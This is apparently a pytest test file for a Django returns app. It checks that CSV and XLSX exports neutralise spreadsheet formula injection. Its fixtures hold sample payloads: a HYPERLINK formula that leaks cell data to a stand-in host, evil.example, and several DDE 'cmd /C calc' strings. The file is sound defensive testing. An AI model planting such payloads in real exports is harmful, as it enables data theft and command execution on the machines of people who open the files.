"""Formula injection in exports: text a spreadsheet would run as a formula is neutralised.

CSV (OWASP): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading ``'``. XLSX: every text cell is a string cell (never a formula). Numbers stay
numbers in both; JSON is written as is. Checked on every export path: ``?export=`` on the
order and line lists, and the index page's export.
"""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.test import Client
from djmoney.money import Money
from openpyxl import load_workbook

from common import site_settings
from common.export import csv_safe
from returns import exports
from tests.factories import CustomerFactory, PartFactory
from tests.returns.factories import (
    CustomerStockItemFactory,
    ReturnOrderExtraLineFactory,
    ReturnOrderFactory,
    ReturnOrderLineItemFactory,
)

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def evil(db):
    """One order per dangerous prefix (in its description and customer reference), each with
    a line whose notes carry it and a negative-priced extra line; the customer's name too."""
    customer = CustomerFactory(name="=cmd|'/C calc'!A0", currency="USD")
    part = PartFactory(name="@Part", IPN="-IPN")
    orders = {}
    for number, (key, text) in enumerate(DANGEROUS.items(), start=1):
        order = ReturnOrderFactory(
            reference=f"RMA-{number:04d}",
            reference_int=number,
            customer=customer,
            description=text,
            customer_reference=text[:64],
            total_price=Money(Decimal("-5"), "USD"),
        )
        ReturnOrderLineItemFactory(
            order=order,
            item=CustomerStockItemFactory(customer=customer, part=part, serial=f"SN-{number}"),
            notes=text,
            reference=text[:100],
            price=Money(Decimal("-12.50"), "USD"),
        )
        ReturnOrderExtraLineFactory(order=order, price=Money(Decimal("-1"), "USD"))
        orders[key] = order
    return orders


@pytest.fixture
def viewer(client_for):
    return client_for(return_order=["view"])


@pytest.fixture
def page(make_user):
    site_settings.set_value("RETURNORDER_ENABLED", True)
    client = Client()
    client.force_login(make_user(return_order=["view"]))
    return client


def _raw(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_raw(response).decode())))


def _xlsx_cells(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(_raw(response))).active
    return [list(row) for row in sheet.iter_rows()]


def _starts_dangerously(value) -> bool:
    return isinstance(value, str) and value[:1] in {"=", "+", "-", "@", "\t", "\r"}


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


# Every export: the order and line lists through the API, and the index page's export.
PATHS = [
    ("/api/order/ro/", {}),
    ("/api/order/ro-line/", {}),
    ("/returns/export/", {}),
    ("/returns/export/", {"rows": "lines"}),
]


def _get(viewer, page, url, params, export_format):
    client = page if url.startswith("/returns/") else viewer
    return client.get(url, {**params, "export": export_format})


@pytest.mark.parametrize(("url", "params"), PATHS)
def test_csv_cells_that_start_a_formula_get_a_leading_quote(viewer, page, evil, url, params):
    rows = _csv(_get(viewer, page, url, params, "csv"))

    cells = [cell for row in rows[1:] for cell in row]
    # Only the exported numbers (negative prices) may start with "-".
    assert not [cell for cell in cells if _starts_dangerously(cell) and not _number(cell)]
    assert "-12.5" in cells or "-5" in cells
    for text in DANGEROUS.values():
        assert "'" + text in cells or "'" + text[:64] in cells


@pytest.mark.parametrize("key", list(DANGEROUS))
def test_every_dangerous_leading_character_is_neutralised_in_csv(viewer, evil, key):
    rows = _csv(viewer.get("/api/order/ro/", {"export": "csv", "ordering": "reference"}))
    headers = rows[0]
    row = next(r for r in rows[1:] if r[headers.index("Reference")] == evil[key].reference)

    assert row[headers.index("Description")] == "'" + DANGEROUS[key]
    assert row[headers.index("Customer")] == "'=cmd|'/C calc'!A0"


def test_csv_numbers_stay_numbers(viewer, evil):
    rows = _csv(viewer.get("/api/order/ro-line/", {"export": "csv"}))
    headers = rows[0]

    prices = {row[headers.index("Price")] for row in rows[1:]}
    assert prices == {"-12.5"}  # a negative number is not a formula: no quote
    totals = _csv(viewer.get("/api/order/ro/", {"export": "csv"}))
    assert {row[totals[0].index("Total Price")] for row in totals[1:]} == {"-5"}


def test_csv_safe_leaves_other_values_alone():
    assert csv_safe("=1") == "'=1"
    assert csv_safe("a=1") == "a=1"
    assert csv_safe(" =1") == " =1"
    assert csv_safe(Decimal("-5")) == Decimal("-5")
    assert csv_safe(-5) == -5
    assert csv_safe(None) is None
    assert csv_safe("") == ""


@pytest.mark.parametrize(("url", "params"), PATHS)
def test_xlsx_text_cells_are_strings_never_formulas(viewer, page, evil, url, params):
    rows = _xlsx_cells(_get(viewer, page, url, params, "xlsx"))

    cells = [cell for row in rows[1:] for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    dangerous = [cell for cell in cells if _starts_dangerously(cell.value)]
    assert dangerous
    for cell in dangerous:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix, (cell.coordinate, cell.value)
    values = {cell.value for cell in cells}
    # Written as is: XLSX keeps the text, the cell type makes it harmless.
    assert DANGEROUS["equals"] in values or DANGEROUS["equals"][:64] in values


def test_xlsx_numbers_stay_numeric(viewer, evil):
    rows = _xlsx_cells(viewer.get("/api/order/ro-line/", {"export": "xlsx"}))
    headers = [cell.value for cell in rows[0]]
    price = headers.index("Price")

    assert {(row[price].value, row[price].data_type) for row in rows[1:]} == {(-12.5, "n")}
    orders = _xlsx_cells(viewer.get("/api/order/ro/", {"export": "xlsx"}))
    total = [cell.value for cell in orders[0]].index("Total Price")
    assert {(row[total].value, row[total].data_type) for row in orders[1:]} == {(-5, "n")}


def test_xlsx_with_control_characters_is_still_written(viewer):
    ReturnOrderFactory(description="bell\x07 and =1+1")

    rows = _xlsx_cells(viewer.get("/api/order/ro/", {"export": "xlsx"}))

    headers = [cell.value for cell in rows[0]]
    assert rows[1][headers.index("Description")].value == "bell\ufffd and =1+1"


def test_json_export_is_unchanged(viewer, evil):
    response = viewer.get("/api/order/ro/", {"export": "json", "ordering": "reference"})

    data = json.loads(_raw(response))
    assert [row["Description"] for row in data] == list(DANGEROUS.values())
    assert list(data[0]) == exports.ORDER_TABLE.headers
